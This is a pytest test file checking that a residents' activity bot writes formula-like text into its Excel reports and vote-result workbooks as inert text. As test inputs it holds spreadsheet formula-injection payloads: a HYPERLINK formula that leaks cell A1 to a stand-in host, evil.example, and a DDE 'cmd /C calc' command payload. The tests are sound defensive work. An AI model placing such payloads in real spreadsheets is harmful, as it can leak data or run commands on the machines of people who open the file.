"""Text from residents and staff lands in every exported workbook as text, never as a live formula."""
from __future__ import annotations

from datetime import timedelta
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from bot.report.monthly import monthly_report
from bot.report.months import month_of
from bot.report.votes import results_workbook
from bot.report.workbook import add_table, new_workbook, save
from store.models import Ballot, ClassSession, Enrolment, Rating, Resident, Vote, VoteOption
from tests.conftest import START
from tests.support.catalog import add_course

TZ = ZoneInfo("Asia/Shanghai")
EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
FORMULA_LIKE = [EVIL_TITLE, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1", "#N/A"]


def cells_with(book, text: str) -> list:
    """Every cell of the workbook holding text (XML reads a stored CR back as LF)."""
    text = text.replace("\r", "\n")
    return [cell for ws in book for row in ws.iter_rows() for cell in row if cell.value == text]


def assert_text(cell) -> None:
    assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
    if cell.value.startswith(("=", "+", "-", "@", "\t", "\n")):
        assert cell.quotePrefix, (cell.coordinate, cell.value)


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_a_formula_like_text_is_written_as_text(tmp_path, text):
    book = new_workbook()
    add_table(book, "表", [text, "数"], [(text, 1)])
    book = load_workbook(save(book, tmp_path / "t.xlsx"))
    found = cells_with(book, text)
    assert len(found) == 2  # the header and the cell below it
    for cell in found:
        assert_text(cell)


def test_negative_numbers_stay_numbers(tmp_path):
    book = new_workbook()
    add_table(book, "表", ["项目", "积分", "变化"], [("兑换", -3, -2.5)], total=["合计", -3, -2.5])
    sheet = load_workbook(save(book, tmp_path / "n.xlsx"))["表"]
    for row in (2, 3):
        assert (sheet.cell(row, 2).value, sheet.cell(row, 2).data_type) == (-3, "n")
        assert (sheet.cell(row, 3).value, sheet.cell(row, 3).data_type) == (-2.5, "n")


def test_control_characters_in_a_title_do_not_break_the_workbook(tmp_path):
    book = new_workbook()
    add_table(book, "表", ["课程"], [("书法\x07班\x1b[31m",)])
    sheet = load_workbook(save(book, tmp_path / "c.xlsx"))["表"]
    assert sheet.cell(2, 1).value == "书法班[31m"


def test_a_hyperlink_course_title_lands_in_the_monthly_report_as_text(sqlite_db, tmp_path):
    november = month_of(2026, 11, TZ)
    course = add_course(sqlite_db, "WH-EV-01", EVIL_TITLE, teacher="@SUM(A1:A9)",
                        first_start=START - timedelta(days=20), sessions=1)
    with sqlite_db.session() as s:
        person = Resident(display_name="-2+3")
        s.add(person)
        s.flush()
        s.add(Enrolment(course_id=course.id, resident_id=person.id, status="confirmed",
                        created_at=START - timedelta(days=25), confirmed_at=START - timedelta(days=25)))
        held = s.exec(select(ClassSession).where(ClassSession.course_id == course.id)).one()
        s.add(Rating(session_id=held.id, course_id=course.id, teacher="@SUM(A1:A9)",
                     resident_id=person.id, grade="优"))
    out = tmp_path / "report.xlsx"
    with sqlite_db.session() as s:
        monthly_report(s, november, START, TZ, out)
    book = load_workbook(out)
    titles = cells_with(book, EVIL_TITLE)
    # 课程出勤, 报名与候补 and 满意度-按课程 each name the course.
    assert {cell.parent.title for cell in titles} == {"课程出勤", "报名与候补", "满意度-按课程"}
    for cell in titles + cells_with(book, "@SUM(A1:A9)"):
        assert_text(cell)
    assert not [cell for ws in book for row in ws.iter_rows() for cell in row if cell.data_type == "f"]


def test_a_formula_like_option_lands_in_the_vote_results_as_text(sqlite_db, tmp_path):
    with sqlite_db.session() as s:
        vote = Vote(title="=1+1", opens_at=START, closes_at=START + timedelta(days=2))
        s.add(vote)
        s.flush()
        options = [VoteOption(vote_id=vote.id, label=label, ref=ref, position=n)
                   for n, (label, ref) in enumerate([("+cmd|' /C calc'!A0", "@x"), ("书法", "-1")])]
        s.add_all(options)
        voter = Resident(display_name="王阿姨")
        s.add(voter)
        s.flush()
        s.add(Ballot(vote_id=vote.id, option_id=options[0].id, resident_id=voter.id, day="2026-12-01",
                     created_at=START))
    with sqlite_db.session() as s:
        path = results_workbook(s, s.get(Vote, vote.id), TZ, tmp_path / "vote.xlsx")
    book = load_workbook(path)
    for text, places in {"=1+1": 1, "+cmd|' /C calc'!A0": 2, "@x": 1, "-1": 1}.items():
        found = cells_with(book, text)
        assert len(found) == places, (text, found)  # the option is a header of 每日票数 too
        for cell in found:
            assert_text(cell)
    assert not [cell for ws in book for row in ws.iter_rows() for cell in row if cell.data_type == "f"]
